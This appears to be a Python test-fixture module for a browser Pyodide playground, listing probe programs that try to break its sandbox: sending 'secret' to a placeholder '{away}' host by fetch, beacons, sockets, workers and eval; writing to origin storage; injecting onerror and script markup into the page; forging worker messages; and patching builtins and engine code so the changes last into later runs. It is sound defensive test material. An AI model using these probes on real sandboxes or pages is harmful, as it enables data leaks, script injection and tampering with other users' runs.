"""Programs that try to reach beyond their run: other hosts, the page's own, its storage, its document, the next run.

{away} is another host that listens, {home} the page's own address. What fails at once is caught by `attempt`: a refusal
now is as good as one later.
"""

# ruff: noqa: E501 - programs as they are typed, a statement a line

from __future__ import annotations

from typing import Final

PRELUDE: Final = """\
import contextlib
attempt = contextlib.suppress(BaseException)
"""

JS: Final = (
    PRELUDE
    + """\
import js
from pyodide.ffi import to_js
def options(**values): return to_js(values, dict_converter=js.Object.fromEntries)
"""
)


def _everywhere(*statements: str) -> str:
    """JavaScript by way of Python, tried with both addresses."""
    tries = "".join(f"    with attempt: {statement}\n" for statement in statements)
    return f"{JS}for url in ('{{away}}', '{{home}}'):\n{tries}"


SENDING: Final = {
    "fetch": _everywhere("js.fetch(url)", "js.fetch(url, options(mode='no-cors', method='POST', body='secret'))"),
    "fetch that outlives the worker": _everywhere("js.fetch(url, options(keepalive=True, mode='no-cors'))"),
    "XMLHttpRequest, synchronous": _everywhere(
        "r = js.XMLHttpRequest.new(); r.open('GET', url, False); r.send()",
        "r = js.XMLHttpRequest.new(); r.open('POST', url, False); r.send('secret')",
    ),
    "WebSocket": _everywhere("js.WebSocket.new(url.replace('http', 'ws'))"),
    "WebSocketStream": _everywhere("js.WebSocketStream.new(url.replace('http', 'ws'))"),
    "EventSource": _everywhere("js.EventSource.new(url)"),
    "WebTransport": _everywhere("js.WebTransport.new(url.replace('http:', 'https:'))"),
    "RTCPeerConnection": JS + "with attempt:\n"
    "    c = js.RTCPeerConnection.new(options(iceServers=[options(urls='stun:{authority}')]))\n"
    "    c.createDataChannel('x')\n    c.createOffer().then(c.setLocalDescription)\n",
    "sendBeacon": _everywhere("js.navigator.sendBeacon(url, 'secret')"),
    "importScripts": _everywhere("js.importScripts(url)"),
    "importScripts of a data: script": _everywhere(
        "js.importScripts('data:text/javascript,' + js.encodeURIComponent('fetch(\"' + url + '\")'))"
    ),
    "a nested worker of http:": _everywhere("js.Worker.new(url)", "js.Worker.new(url, options(type='module'))"),
    "a nested worker of data: that fetches": _everywhere(
        "js.Worker.new('data:text/javascript,' + js.encodeURIComponent('fetch(\"' + url + '\")'))",
        "js.Worker.new('data:text/javascript,' + js.encodeURIComponent('import(\"' + url + '\")'),"
        " options(type='module'))",
    ),
    "a nested worker of blob: that fetches": _everywhere(
        "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(['fetch(\"' + url + '\")']))))"
    ),
    "a shared worker": _everywhere("js.SharedWorker.new(url)"),
    "a service worker": _everywhere("js.navigator.serviceWorker.register(url)"),
    "a font": _everywhere("js.FontFace.new('x', 'url(' + url + ')').load()"),
    "an image of an SVG": _everywhere(
        'js.createImageBitmap(js.Blob.new(to_js([\'<svg xmlns="http://www.w3.org/2000/svg"><image href="\' + url +'
        " '\"/></svg>']), options(type='image/svg+xml')))"
    ),
    "pyodide.http": _everywhere(
        "import pyodide.http; pyodide.http.open_url(url)", "import pyodide.http; pyodide.http.pyfetch(url).send(None)"
    ),
    "pyodide.code.run_js": _everywhere(
        "import pyodide.code; pyodide.code.run_js('fetch(\"' + url + '\")')",
        "import pyodide.code; pyodide.code.run_js('import(\"' + url + '\")')",
    ),
    "eval and new Function": _everywhere(
        "js.eval('fetch(\"' + url + '\")')",
        "js.Function.new('fetch(\"' + url + '\")')()",
        "js.setTimeout('fetch(\"' + url + '\")', 0)",
        "js.self.constructor.constructor('fetch(\"' + url + '\")')()",
    ),
    "loadPackage of pyodide_js": _everywhere(
        "import pyodide_js; pyodide_js.loadPackage(url + '/x.whl')",
        "import pyodide_js; pyodide_js.loadPackage('micropip')",
    ),
    "micropip": _everywhere("import micropip; micropip.install(url)"),
    "urllib": _everywhere("import urllib.request; urllib.request.urlopen(url)"),
    "a socket": PRELUDE + "import socket\nwith attempt:\n    socket.create_connection(('127.0.0.1', {port}))\n"
    "with attempt:\n    import _socket; s = _socket.socket(); s.connect(('127.0.0.1', {port})); s.send(b'secret')\n",
    "the real socket of the engine's past": PRELUDE
    + "import gc, socket\nfor f in gc.get_objects():\n    with attempt:\n"
    "        if f.__name__ == 'create_connection' and f.__module__ == 'socket': f(('127.0.0.1', {port}))\n",
    "an import hook": _everywhere(
        "import sys; sys.meta_path.insert(0, type('F', (), {'find_spec': lambda s, n, *a: js.fetch(url + n)})());"
        " import anything"
    ),
    "a WebAssembly module with imports": _everywhere(
        "js.WebAssembly.instantiateStreaming(js.fetch(url))",
        "js.WebAssembly.compileStreaming(js.fetch(url))",
    ),
    "Emscripten's own loading of files": _everywhere(
        "import pyodide_js; pyodide_js._module.FS.createLazyFile('/', 'x', url, True, False); open('/x').read()",
        "import pyodide_js; pyodide_js._module.FS.createPreloadedFile('/', 'y', url, True, False)",
    ),
    "the clipboard, notifications and push": JS
    + "with attempt: js.Notification.new('secret')\nwith attempt: js.navigator.clipboard.writeText('secret')\n"
    "with attempt: js.registration.showNotification('secret')\n",
}
"""what would send something to a host"""

STORING: Final = {
    "localStorage and sessionStorage": JS + "for name in ('localStorage', 'sessionStorage'):\n"
    "    with attempt: getattr(js, name).setItem('probe', '1')\n",
    "IndexedDB": JS + "with attempt: js.indexedDB.open('probe')\n",
    "the cache storage": JS + "with attempt: js.caches.open('probe')\n",
    "the file system of the origin": JS + "with attempt: js.navigator.storage.getDirectory()\n",
    "cookies": JS + "with attempt: js.cookieStore.set('probe', '1')\nwith attempt: js.document.cookie = 'probe=1'\n",
    "Emscripten's IDBFS": JS + "import pyodide_js\nwith attempt:\n    pyodide_js.FS.mkdir('/probe')\n"
    "    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, options(), '/probe')\n"
    "    pyodide_js.FS.syncfs(False, lambda *a: None)\n",
    "locks": JS + "with attempt: js.navigator.locks.request('probe', lambda lock: js.Promise.new(lambda *a: None))\n",
}
"""what would leave something in the storage of the page's origin"""

MARKUP: Final = "<img src=x onerror=window.probe=1><script>window.probe=1</script><b id=probe>probe</b>"

IN_THE_PAGE: Final = {
    "markup in what is printed": f"print({MARKUP!r})",
    "markup on stderr": f"import sys\nprint({MARKUP!r}, file=sys.stderr)",
    "markup in an exception": f"raise ValueError({MARKUP!r})",
    "markup in the name of an exception": f"raise type({MARKUP!r}, (Exception,), {{}})('x')",
    "markup in the name of a task": "import asyncio\nasync def main():\n"
    f"    await asyncio.gather(*[asyncio.create_task(asyncio.sleep(1), name={MARKUP!r}) for _ in range(2)])\n"
    "asyncio.run(main())",
    "markup in a result": f"import asyncio\nasync def f(): return {MARKUP!r}\nasync def main():\n"
    "    return await asyncio.gather(f(), f())\nasyncio.run(main())",
    "markup in a repr": f"import asyncio\nclass A:\n    def __repr__(self): return {MARKUP!r}\nasync def f(): return A()\n"
    "async def main(): return await asyncio.gather(f())\nasyncio.run(main())",
    "markup in the name of a coroutine": f"import asyncio\nasync def f(): pass\nf.__name__ = f.__qualname__ = {MARKUP!r}\n"
    "async def main(): await asyncio.gather(f(), f())\nasyncio.run(main())",
    "markup in a syntax error": f"x = {MARKUP}",
    "messages forged": JS
    + "for m in ({'kind': 'ready', 'python': '<b id=probe>'}, {'kind': 'boot_failed', 'message': 'x'},\n"
    "    {'kind': 'ran', 'id': 1, 'json': '{}', 'realMs': 0}, {'kind': 'run_failed', 'id': 2, 'message': 'x', 'dead': True},\n"
    "    {'kind': 'report', 'id': 2, 'report': '<b id=probe>'}, {'kind': 'replayed', 'id': 2, 'json': '[]'}, 'probe', 7):\n"
    "    with attempt: js.postMessage(to_js(m, dict_converter=js.Object.fromEntries))\n",
    "a broadcast to the page's origin": JS + "with attempt: js.BroadcastChannel.new('probe').postMessage('probe')\n",
    "the parent, the opener and the top": JS
    + "for name in ('parent', 'opener', 'top', 'document', 'window', 'frames'):\n"
    "    with attempt: getattr(js, name).probe = 1\n    with attempt: getattr(js, name).location = 'javascript:1'\n",
}
"""what would run a script in the page or put elements into it"""

LASTING: Final = {
    "asyncio": "import asyncio\nasyncio.sleep = asyncio.gather = asyncio.run = None\nasyncio.Task.result = None",
    "time": "import time\ntime.sleep = time.monotonic = None",
    "builtins": "import builtins\nbuiltins.print = builtins.len = builtins.__import__ = None",
    "simfetch": "import simfetch\nsimfetch.fetch_from_api = None",
    "the engine's modules": "import sys\nfor name, module in list(sys.modules.items()):\n"
    "    if name.startswith('playground'):\n        vars(module).clear()",
    "the engine's code": "import playground.session.runner as r, playground.limits.budget as l\nr.record.__code__ = (lambda *a, **k: 1).__code__\n"
    "l.Budget.spend_step.__code__ = (lambda *a: None).__code__",
    "the engine's frames": "import sys\nf = sys._getframe()\nwhile f:\n    f.f_globals['Recording'] = None\n    f = f.f_back",
    "the types of Python": "import gc\ngc.get_referents(str.__dict__)[0]['upper'] = lambda self: 'patched'\n"
    "import ctypes\nctypes.pythonapi.PyType_Modified(ctypes.py_object(str))",
    "modules": "import sys, types\nsys.modules['asyncio'] = sys.modules['json'] = types.ModuleType('fake')",
    "an import hook": "import sys\nclass F:\n    def find_spec(self, *a): raise ImportError('no more')\n"
    "sys.meta_path.insert(0, F()); sys.path.clear(); sys.path_hooks.clear(); sys.path_importer_cache.clear()",
    "files": "open('asyncio.py', 'w').write('1/0')\nopen('/tmp/left', 'w').write('x')\nimport sys; sys.path.insert(0, '.')",
    "JavaScript's own functions": JS
    + "js.JSON.parse = js.JSON.stringify = js.Object.keys = js.Array.prototype.push = None\n",
    "the worker's way to the page": JS
    + "js.postMessage = None\njs.self.onmessage = None\njs.MessagePort.prototype.postMessage = None\n",
    "another listener for messages": JS + "from pyodide.ffi import create_proxy\n"
    "js.addEventListener('message', create_proxy(lambda event: event.stopImmediatePropagation()), True)\n",
    "the interrupt buffer": "import pyodide_js\npyodide_js.setInterruptBuffer(None)",
    "handlers of signals": "import signal, _signal\nfor n in range(1, 20):\n    try: _signal.signal(n, _signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass",
    "an audit hook": "import sys\nsys.addaudithook(lambda event, args: 1/0 if event == 'compile' else None)",
    "a codec": "import codecs\ncodecs.register(lambda name: 1/0)\ncodecs.register_error('strict', lambda e: ('', e.end))",
    "an abstract class": "import numbers, collections.abc\nnumbers.Integral.register(str)\ncollections.abc.Awaitable.register(int)",
    "the memory": "import gc\ngc.disable()\nimport builtins\nbuiltins.hoard = ['x' * 1000 for _ in range(10**5)]",
    "tracing": "import sys, threading\nsys.settrace(lambda *a: None); sys.setprofile(lambda *a: None)\n"
    "sys.monitoring.use_tool_id(4, 'mine')\nsys.monitoring.set_events(4, sys.monitoring.events.LINE)",
    "the recursion limit and others": "import sys, decimal, locale, os, warnings, random, logging, gc\n"
    "sys.setrecursionlimit(60)\nsys.set_int_max_str_digits(1000)\ndecimal.DefaultContext.prec = 2\nos.chdir('/')\n"
    "os.environ.clear()\nwarnings.simplefilter('error')\nrandom.seed(1)\nlogging.disable()\ngc.set_threshold(1)",
    "the event loop": "import asyncio\nloop = asyncio.new_event_loop()\nasyncio.set_event_loop(loop)\n"
    "asyncio._set_running_loop(loop)\nloop.set_task_factory(lambda *a: None)",
    "context variables and weak references": "import contextvars, weakref, json\nv = contextvars.ContextVar('v'); v.set(1)\n"
    "class A: pass\na = A(); weakref.finalize(a, print, 'late'); json.kept = [a]",
}
"""what would change something for the next run"""
